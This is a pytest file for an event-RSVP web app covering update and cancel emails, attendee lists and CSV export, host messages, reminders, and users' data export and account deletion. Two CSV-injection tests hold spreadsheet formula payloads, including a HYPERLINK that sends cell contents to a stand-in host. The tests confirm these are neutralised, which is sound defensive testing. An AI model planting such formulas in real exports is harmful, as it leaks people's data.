"""What reaches people and what hosts and people see: change and cancellation
emails with their .ics, the hosts' list, CSV and messages, reminders, and a
person's own pages (/me, their data, deleting their account).

Mail is read from the real SMTP test server; calendar attachments are read back
with icalendar. The test client shares the test's app context and session, so
each test reads rows afresh (``db.session.refresh``/``expire_all``) after a request.
"""

import csv
import io
import json
import re
from collections import Counter
from datetime import datetime, timedelta

import pytest
from icalendar import Calendar
from sqlalchemy import select

from eventsite.accounts import delete_account, export_data
from eventsite.attendees import attendee_list, attendees_csv, respond, send_reminders
from eventsite.database import utcnow
from eventsite.errors import InvalidInput
from eventsite.events import cancel_event
from eventsite.extensions import db
from eventsite.forms import EventForm
from eventsite.hosting import accept_invitation, add_cohost
from eventsite.mail import deliver
from eventsite.models import EmailLink, Event, EventHost, EventStatus, Person, Rsvp, RsvpStatus
from eventsite.people import find_or_create_person, find_person, send_sign_in_link
from eventsite.rsvps import locked_event
from tests.conftest import LONDON, Auth, future_local

HOST = "hana@example.org"
ALICE = "alice@example.org"
BEA = "bea@example.org"
CARA = "cara@example.org"
DAN = "dan@example.org"
ERIN = "erin@example.org"
STRANGER = "sid@example.org"
FORMAT = "%Y-%m-%dT%H:%M"


# -- helpers -------------------------------------------------------------------------------------


def answer_as(event: Event, email: str, status: str = "going", guests: int = 0, name: str = "") -> Rsvp:
    """Answer through the domain, as the RSVP view does, and commit."""
    person = find_or_create_person(email, name or email.split("@")[0].title())
    rsvp = respond(locked_event(event.id), person, RsvpStatus(status), guests).rsvp
    db.session.commit()
    return rsvp


def status_of(rsvp: Rsvp) -> RsvpStatus:
    db.session.refresh(rsvp)
    return rsvp.status


def edit_form(event: Event, **overrides) -> dict:
    """The edit form for ``event`` as a browser would post it back, with ``overrides``."""
    data = {}
    for name, value in EventForm.data_for(event).items():
        if isinstance(value, datetime):
            data[name] = value.strftime(FORMAT)
        elif value is None or value is False:
            continue
        elif value is True:
            data[name] = "y"
        elif isinstance(value, list):
            data[name] = value
        else:
            data[name] = str(value)
    data.update(overrides)
    return data


def calendar_part(message):
    [part] = [part for part in message.iter_attachments() if part.get_content_type() == "text/calendar"]
    return part


def vevent_in(message):
    """The VEVENT of the message's .ics, and the METHOD of its calendar."""
    calendar = Calendar.from_ical(calendar_part(message).get_content())
    [vevent] = calendar.walk("VEVENT")
    return str(calendar["METHOD"]), vevent


def recipients(mailbox) -> Counter:
    return Counter(message["To"] for message in mailbox.messages)


def section(html: str, name: str) -> str:
    """One section of /me: going, waitlisted, maybe or hosting."""
    match = re.search(rf'<section aria-labelledby="h-{name}">(.*?)</section>', html, re.S)
    assert match, f"no {name} section"
    return match.group(1)


def starting_in(event: Event, hours: float) -> None:
    """Move an event (after people answered) so it starts ``hours`` from now."""
    event.starts_at = utcnow() + timedelta(hours=hours)
    event.ends_at = event.starts_at + timedelta(hours=2)
    db.session.commit()


@pytest.fixture
def host(app, make_person):
    return make_person(email=HOST, name="Hana Host")


@pytest.fixture
def event(make_event, host):
    """Room for one party; each may bring up to two guests."""
    return make_event(host=host, title="Brew and biscuits", description="Tea and chat.", capacity=1, max_guests=2)


@pytest.fixture
def everyone_answered(event, mailbox):
    """Alice going, Bea waitlisted, Cara maybe, Dan can't go; their confirmations delivered."""
    rsvps = {
        ALICE: answer_as(event, ALICE, "going"),
        BEA: answer_as(event, BEA, "going"),
        CARA: answer_as(event, CARA, "maybe"),
        DAN: answer_as(event, DAN, "not-going"),
    }
    deliver()
    assert status_of(rsvps[BEA]) is RsvpStatus.WAITLISTED
    return rsvps


# -- changes reach people --------------------------------------------------------------------------

ANSWERING = {ALICE, BEA, CARA}  # going, waitlisted, maybe: not Dan, who can't go

CHANGES = {
    "time": (
        {"starts_at": future_local(days=9, hour=19).strftime(FORMAT), "ends_at": future_local(9, 21).strftime(FORMAT)},
        lambda vevent: vevent.decoded("dtstart") == future_local(days=9, hour=19).replace(tzinfo=LONDON),
    ),
    "place": (
        {"venue_name": "The Old Fire Station"},
        lambda vevent: "The Old Fire Station" in str(vevent["LOCATION"]),
    ),
}


@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES.keys())
def test_a_change_of_time_or_place_sends_everyone_answering_an_updated_request(
    client, auth, mailbox, event, everyone_answered, change
):
    overrides, shows_change = change
    earlier = {}
    for email in ANSWERING:
        _, vevent = vevent_in(mailbox.last_to(email))
        earlier[email] = (str(vevent["UID"]), int(vevent["SEQUENCE"]))
    auth.sign_in(HOST)
    mailbox.clear()

    response = client.post(f"/events/{event.id}/edit", data=edit_form(event, **overrides))

    assert response.status_code == 302
    assert recipients(mailbox) == Counter(ANSWERING)  # one each, and nobody who can't go
    for email in ANSWERING:
        message = mailbox.last_to(email)
        assert message["Subject"] == "Changed: Brew and biscuits"
        assert calendar_part(message).get_param("method") == "REQUEST"
        method, vevent = vevent_in(message)
        uid, sequence = earlier[email]
        assert method == "REQUEST"
        assert str(vevent["UID"]) == uid
        assert int(vevent["SEQUENCE"]) > sequence
        assert shows_change(vevent)
    assert status_of(everyone_answered[BEA]) is RsvpStatus.WAITLISTED  # the capacity was sent back unchanged


def test_a_change_of_description_only_emails_nobody(client, auth, mailbox, event, everyone_answered):
    auth.sign_in(HOST)
    mailbox.clear()

    response = client.post(f"/events/{event.id}/edit", data=edit_form(event, description="Tea, cake and chat."))

    assert response.status_code == 302
    db.session.refresh(event)
    assert event.description == "Tea, cake and chat."
    assert mailbox.messages == []


def test_cancelling_sends_everyone_answering_a_cancel(client, auth, mailbox, event, everyone_answered):
    earlier = {email: vevent_in(mailbox.last_to(email))[1] for email in ANSWERING}
    auth.sign_in(HOST)
    mailbox.clear()

    response = client.post(f"/events/{event.id}/cancel", data={"message": "The café is closed."})

    assert response.status_code == 302
    assert recipients(mailbox) == Counter(ANSWERING)
    for email in ANSWERING:
        message = mailbox.last_to(email)
        assert message["Subject"] == "Cancelled: Brew and biscuits"
        assert "The café is closed." in mailbox.text(message)
        assert calendar_part(message).get_param("method") == "CANCEL"
        method, vevent = vevent_in(message)
        assert method == "CANCEL"
        assert str(vevent["STATUS"]) == "CANCELLED"
        assert vevent["UID"] == earlier[email]["UID"]
        assert int(vevent["SEQUENCE"]) > int(earlier[email]["SEQUENCE"])


# -- hosts see who is coming ------------------------------------------------------------------------


@pytest.fixture
def crowd(event):
    """Alice going with two guests (the event is full), then Bea and Cara (two guests) waiting,
    Dan maybe, Erin can't go."""
    event.capacity = 3
    db.session.commit()
    answer_as(event, ALICE, "going", guests=2, name="Alice Archer")
    answer_as(event, BEA, "going", name="Bea Baker")
    answer_as(event, CARA, "going", guests=2, name="Cara Cole")
    answer_as(event, DAN, "maybe", name="Dan Dyer")
    answer_as(event, ERIN, "not-going", name="Erin Ellis")
    deliver()


EXPECTED_ROWS = [
    ("Alice Archer", ALICE, "Going", 2, ""),
    ("Bea Baker", BEA, "Waitlist", 0, 1),
    ("Cara Cole", CARA, "Waitlist", 2, 2),
    ("Dan Dyer", DAN, "Maybe", 0, ""),
    ("Erin Ellis", ERIN, "Can't go", 0, ""),
]


def test_attendee_list_has_everyone_with_answer_guests_and_waitlist_place_in_order(event, crowd):
    rows = attendee_list(event)

    assert [(r["name"], r["email"], r["answer"], r["guests"], r["waitlist_place"]) for r in rows] == EXPECTED_ROWS


def test_hosts_see_everyone_on_the_attendees_page(client, auth, event, crowd):
    auth.sign_in(HOST)

    response = client.get(f"/events/{event.id}/attendees")

    assert response.status_code == 200
    cells = re.findall(r"<tr>" + r"<td>(.*?)</td>" * 5 + r"\s*<td><a [^>]*>Remove.*?</td></tr>", response.text)
    expected = [tuple(str(value).replace("'", "&#39;") for value in row) for row in EXPECTED_ROWS]
    assert cells == expected


def test_non_hosts_are_refused_the_list_the_csv_and_messages(client, auth, mailbox, event, crowd, make_person):
    make_person(email=STRANGER, name="Sid")
    auth.sign_in(STRANGER)
    mailbox.clear()

    assert client.get(f"/events/{event.id}/attendees").status_code == 403
    assert client.get(f"/events/{event.id}/attendees.csv").status_code == 403
    message = {"audience": "everyone", "subject": "Hello", "body": "Come to mine instead."}
    assert client.post(f"/events/{event.id}/message", data=message).status_code == 403
    assert mailbox.messages == []


def test_anonymous_visitors_are_sent_to_sign_in_from_the_host_pages(client, event):
    for method, path in [("get", "attendees"), ("get", "attendees.csv"), ("post", "message")]:
        response = getattr(client, method)(f"/events/{event.id}/{path}")

        assert response.status_code == 302, path
        assert response.headers["Location"].startswith("/sign-in?next="), path


def test_csv_download_has_a_header_and_one_row_per_answer(client, auth, event, crowd):
    auth.sign_in(HOST)

    response = client.get(f"/events/{event.id}/attendees.csv")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == f'attachment; filename="event-{event.id}-attendees.csv"'
    header, *rows = list(csv.reader(io.StringIO(response.text)))
    assert header == ["name", "email", "answer", "guests", "waitlist_place", "answered_at"]
    assert [tuple(row[:5]) for row in rows] == [tuple(str(value) for value in row) for row in EXPECTED_ROWS]


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("https://evil.example/?leak="&A2,"Click me")', "+SUM(1+1)", "-2+3", "@SUM(A1:A9)"]
)
def test_csv_neutralises_names_a_spreadsheet_would_run(event, name):
    answer_as(event, ALICE, "going", name=name)

    [row] = list(csv.DictReader(io.StringIO(attendees_csv(event))))

    assert row["name"] == "'" + name


def test_csv_download_neutralises_a_formula_name(client, auth, event):
    answer_as(event, ALICE, "going", name='=HYPERLINK("https://evil.example","Click me")')
    auth.sign_in(HOST)

    [row] = list(csv.DictReader(io.StringIO(client.get(f"/events/{event.id}/attendees.csv").text)))

    assert row["name"] == '\'=HYPERLINK("https://evil.example","Click me")'


AUDIENCES = {
    "going": {ALICE},
    "waitlist": {BEA, CARA},
    "maybe": {DAN},
    "everyone": {ALICE, BEA, CARA, DAN},
}


@pytest.mark.parametrize(("audience", "expected"), AUDIENCES.items(), ids=AUDIENCES.keys())
def test_a_host_message_reaches_exactly_its_audience_one_each_sharing_no_address(
    client, auth, mailbox, event, crowd, audience, expected
):
    auth.sign_in(HOST)
    mailbox.clear()

    response = client.post(
        f"/events/{event.id}/message",
        data={"audience": audience, "subject": "Bring a mug", "body": "We are short of mugs: bring one if you can."},
    )

    assert response.status_code == 302
    assert response.headers["Location"] == f"/events/{event.id}/attendees"
    people = f"{len(expected)} {'person' if len(expected) == 1 else 'people'}"
    assert f"Your message is on its way to {people}." in client.get(response.headers["Location"]).text
    assert recipients(mailbox) == Counter(expected)
    everybody = {ALICE, BEA, CARA, DAN, ERIN, HOST}
    for message in mailbox.messages:
        assert message["Subject"] == "Bring a mug: Brew and biscuits"
        assert "We are short of mugs: bring one if you can." in mailbox.text(message)
        assert message["Cc"] is None
        assert message["Bcc"] is None
        whole = message.as_string()
        for other in everybody - {message["To"]}:
            assert other not in whole, f"{other} appears in the message to {message['To']}"


@pytest.mark.parametrize(
    ("form", "error"),
    [
        ({"audience": "going", "subject": "", "body": "Bring a mug."}, "Give your message a subject."),
        ({"audience": "going", "subject": "Mugs", "body": "   "}, "Write your message."),
    ],
    ids=["no subject", "no body"],
)
def test_a_host_message_without_subject_or_body_is_refused(client, auth, mailbox, event, crowd, form, error):
    auth.sign_in(HOST)
    mailbox.clear()

    response = client.post(f"/events/{event.id}/message", data=form)

    assert response.status_code == 422
    assert error in response.text
    assert mailbox.messages == []


# -- reminders ------------------------------------------------------------------------------------


def test_send_reminders_emails_people_going_within_a_day_and_never_twice(runner, mailbox, make_event, host):
    soon = make_event(host=host, title="Soon", capacity=2)
    later = make_event(host=host, title="Later")
    called_off = make_event(host=host, title="Called off")
    started = make_event(host=host, title="Started")
    answer_as(soon, ALICE, "going")
    answer_as(soon, BEA, "going")
    answer_as(soon, CARA, "maybe")
    waiting = answer_as(soon, DAN, "going")
    answer_as(later, ERIN, "going")
    answer_as(called_off, "fay@example.org", "going")
    answer_as(started, "gus@example.org", "going")
    cancel_event(called_off, host, "")
    db.session.commit()
    starting_in(soon, 3)
    starting_in(later, 30)
    starting_in(called_off, 3)
    starting_in(started, -0.5)
    assert status_of(waiting) is RsvpStatus.WAITLISTED
    deliver()
    mailbox.clear()

    first = runner.invoke(args=["send-reminders"])

    assert first.exit_code == 0, first.output
    assert "Queued 2 reminders." in first.output
    assert "Sent 2, failed 0" in first.output
    assert recipients(mailbox) == Counter({ALICE: 1, BEA: 1})
    assert all(message["Subject"] == "Tomorrow: Soon" for message in mailbox.messages)

    again = runner.invoke(args=["send-reminders"])

    assert again.exit_code == 0, again.output
    assert "Queued 0 reminders." in again.output
    assert len(mailbox.messages) == 2


def test_people_reminded_of_an_event_that_then_moves_are_reminded_before_the_new_date(
    client, auth, runner, make_event, host
):
    soon = make_event(host=host, title="Soon")
    answer_as(soon, ALICE, "going")
    starting_in(soon, 3)
    assert "Queued 1 reminder" in runner.invoke(args=["send-reminders"]).output
    auth.sign_in(HOST)
    new_start = future_local(days=5, hour=18)
    moved = edit_form(soon, starts_at=new_start.strftime(FORMAT), ends_at=new_start.replace(hour=20).strftime(FORMAT))
    assert client.post(f"/events/{soon.id}/edit", data=moved).status_code == 302

    day_before = new_start.replace(tzinfo=LONDON) - timedelta(hours=12)

    assert send_reminders(now=day_before) == 1
    assert send_reminders(now=day_before) == 0


# -- my gatherings ----------------------------------------------------------------------------------

ME = "alex@example.org"


@pytest.fixture
def my_answers(make_event, make_person, host):
    """Alex going to one, 2nd on the waitlist of another, maybe to a third, can't go to a
    fourth, and hosting a fifth (to which Cara is going)."""
    alex = make_person(email=ME, name="Alex Adams")
    going = make_event(host=host, title="Cinema club", starts_local=future_local(days=3), max_guests=2)
    full = make_event(host=host, title="Pub quiz", starts_local=future_local(days=4), capacity=1)
    maybe = make_event(host=host, title="Walk and talk", starts_local=future_local(days=5))
    declined = make_event(host=host, title="Frailty workshop", starts_local=future_local(days=6))
    mine = make_event(host=alex, title="Brew in Bramley", starts_local=future_local(days=7))
    answer_as(going, ME, "going", guests=1)
    answer_as(full, ERIN, "going")
    answer_as(full, BEA, "going")
    answer_as(full, ME, "going")
    answer_as(maybe, ME, "maybe")
    answer_as(declined, ME, "not-going")
    answer_as(mine, CARA, "going", name="Cara Cole")
    deliver()
    return {"going": going, "full": full, "maybe": maybe, "declined": declined, "mine": mine}


def test_my_gatherings_lists_going_waitlisted_with_place_maybe_and_hosting(client, auth, my_answers):
    auth.sign_in(ME)

    page = client.get("/me/")

    assert page.status_code == 200
    going, waiting, maybe, hosting = (section(page.text, name) for name in ("going", "waitlisted", "maybe", "hosting"))
    assert "Cinema club" in going
    assert "Pub quiz" in waiting
    assert "Number 2 on the waitlist." in waiting
    assert "Walk and talk" in maybe
    assert "Brew in Bramley" in hosting
    assert f'href="/events/{my_answers["mine"].id}/attendees"' in hosting
    assert "Frailty workshop" not in page.text  # can't go: not listed
    assert "Pub quiz" not in going + maybe
    assert "Cinema club" not in waiting + maybe


def test_changing_an_answer_from_my_gatherings(client, auth, my_answers):
    event = my_answers["going"]
    auth.sign_in(ME)
    page = client.get("/me/").text
    assert f'action="/events/{event.id}/rsvp"' in section(page, "going")

    response = client.post(f"/events/{event.id}/rsvp", data={"answer": "maybe", "guests": "1"})

    assert response.status_code == 302
    rsvp = db.session.scalar(select(Rsvp).where(Rsvp.event_id == event.id, Rsvp.person_id == find_person(ME).id))
    assert rsvp.status is RsvpStatus.MAYBE
    page = client.get("/me/").text
    assert "Cinema club" in section(page, "maybe")
    assert "Cinema club" not in section(page, "going")


def test_my_gatherings_sends_anonymous_visitors_to_sign_in(client):
    response = client.get("/me/")

    assert response.status_code == 302
    assert response.headers["Location"].startswith("/sign-in?next=")
    assert client.get("/me", follow_redirects=True).request.path == "/sign-in"


# -- my data ----------------------------------------------------------------------------------------


def test_my_data_holds_my_answers_and_hosted_events_and_nothing_about_others(app, my_answers):
    data = export_data(find_person(ME))

    assert data["person"]["email"] == ME
    assert data["person"]["name"] == "Alex Adams"
    answers = {(a["event"], a["answer"], a["guests"], a["waitlist_place"]) for a in data["answers"]}
    assert answers == {
        ("Cinema club", "going", 1, None),
        ("Pub quiz", "waitlisted", 0, 2),
        ("Walk and talk", "maybe", 0, None),
        ("Frailty workshop", "not-going", 0, None),
    }
    assert [hosted["event"] for hosted in data["hosting"]] == ["Brew in Bramley"]
    text = json.dumps(data)
    for other in (HOST, BEA, CARA, ERIN, "Cara Cole", "Hana Host"):
        assert other not in text


def test_my_data_downloads_as_json(client, auth, my_answers):
    auth.sign_in(ME)

    response = client.get("/me/data.json")

    assert response.status_code == 200
    assert response.mimetype == "application/json"
    assert response.headers["Content-Disposition"].startswith("attachment")
    data = response.get_json()
    assert data["person"]["email"] == ME
    assert len(data["answers"]) == 4
    for other in (HOST, BEA, CARA, ERIN):
        assert other not in response.text


def test_my_data_is_for_signed_in_people_only(client, my_answers):
    response = client.get("/me/data.json")

    assert response.status_code == 302
    assert response.headers["Location"].startswith("/sign-in?next=")


# -- deleting my account ----------------------------------------------------------------------------


@pytest.fixture
def alex_holds_a_place(event, make_person):
    """Alex has the only place; Bea waits for it."""
    make_person(email=ME, name="Alex Adams")
    answer_as(event, ME, "going")
    bea = answer_as(event, BEA, "going")
    deliver()
    assert bea.status is RsvpStatus.WAITLISTED
    return bea


def test_deleting_an_account_removes_answers_promotes_the_waitlist_and_anonymises(mailbox, alex_holds_a_place):
    alex = find_person(ME)
    send_sign_in_link(ME)
    db.session.commit()
    mailbox.clear()

    delete_account(alex)
    db.session.commit()
    deliver()

    assert db.session.scalars(select(Rsvp).where(Rsvp.person_id == alex.id)).all() == []
    assert status_of(alex_holds_a_place) is RsvpStatus.GOING
    assert mailbox.last_to(BEA)["Subject"] == "A place came up for you: Brew and biscuits"
    assert mailbox.to(ME) == []
    db.session.refresh(alex)
    assert ME not in alex.email
    assert alex.name == ""
    assert find_person(ME) is None
    assert db.session.scalars(select(EmailLink).where(EmailLink.person_id == alex.id)).all() == []


def test_delete_page_asks_for_confirmation_and_refuses_without_the_tick(client, auth, alex_holds_a_place):
    auth.sign_in(ME)

    page = client.get("/me/delete")
    response = client.post("/me/delete", data={})

    assert page.status_code == 200
    assert 'name="confirm"' in page.text
    assert response.status_code == 422
    assert "Tick the box to confirm." in response.text
    alex = find_person(ME)
    assert alex is not None
    assert alex.name == "Alex Adams"
    assert db.session.scalar(select(Rsvp).where(Rsvp.person_id == alex.id)).status is RsvpStatus.GOING
    assert status_of(alex_holds_a_place) is RsvpStatus.WAITLISTED
    assert client.get("/me/").status_code == 200  # still signed in


def test_deleting_my_account_signs_me_out_everywhere_and_promotes_the_next_person(
    app, client, auth, mailbox, alex_holds_a_place
):
    alex_id = find_person(ME).id
    other_device = app.test_client()
    Auth(other_device, mailbox).sign_in(ME)
    auth.sign_in(ME)
    send_sign_in_link(ME)  # a link Alex asked for and never used
    db.session.commit()
    unused_link = mailbox.link_to(ME)
    mailbox.clear()

    response = client.post("/me/delete", data={"confirm": "y"})

    assert response.status_code == 302
    assert response.headers["Location"] == "/"
    assert "Your account and your answers are deleted." in client.get("/").text
    assert client.get("/me/").status_code == 302  # signed out here
    assert status_of(alex_holds_a_place) is RsvpStatus.GOING
    assert mailbox.last_to(BEA)["Subject"].startswith("A place came up")
    db.session.expire_all()
    alex = db.session.get(Person, alex_id)
    assert (ME not in alex.email, alex.name) == (True, "")
    assert client.post(unused_link).status_code == 410  # the old emailed sign-in link is dead
    other = other_device.get("/me/")
    assert other.status_code == 302, "the deleted person is still signed in on their other device"
    assert other.headers["Location"].startswith("/sign-in")


def test_the_only_host_of_an_upcoming_event_cannot_delete_their_account(make_event, make_person, host):
    alex = make_person(email=ME, name="Alex Adams")
    make_event(host=alex, title="Cinema club")
    other = make_event(host=host, title="Pub quiz")
    answer_as(other, ME, "going")

    with pytest.raises(InvalidInput, match="only host of “Cinema club”"):
        delete_account(alex)


def test_the_page_refuses_the_only_host_naming_the_event_and_deletes_nothing(
    client, auth, mailbox, make_event, make_person, host, alex_holds_a_place
):
    alex = find_person(ME)
    hosted = make_event(host=alex, title="Cinema club")
    auth.sign_in(ME)

    response = client.post("/me/delete", data={"confirm": "y"})

    assert response.status_code == 422
    assert "only host of “Cinema club”" in response.text
    db.session.expire_all()
    assert find_person(ME).name == "Alex Adams"
    assert db.session.scalar(select(Rsvp).where(Rsvp.person_id == alex.id)).status is RsvpStatus.GOING
    assert status_of(alex_holds_a_place) is RsvpStatus.WAITLISTED
    assert db.session.scalar(select(EventHost).where(EventHost.event_id == hosted.id)).person_id == alex.id
    assert client.get("/me/").status_code == 200  # still signed in


def test_a_cohost_or_a_host_of_a_cancelled_event_may_delete_their_account(make_event, make_person, host):
    alex = make_person(email=ME, name="Alex Adams")
    shared = make_event(host=alex, title="Cinema club")
    accept_invitation(add_cohost(shared, alex, HOST), "Hana")
    called_off = make_event(host=alex, title="Pub quiz")
    cancel_event(called_off, alex, "")
    db.session.commit()

    delete_account(alex)
    db.session.commit()

    db.session.refresh(shared)
    assert [person.email for person in shared.host_people] == [HOST]
    assert shared.status is EventStatus.PUBLISHED
    assert find_person(ME) is None
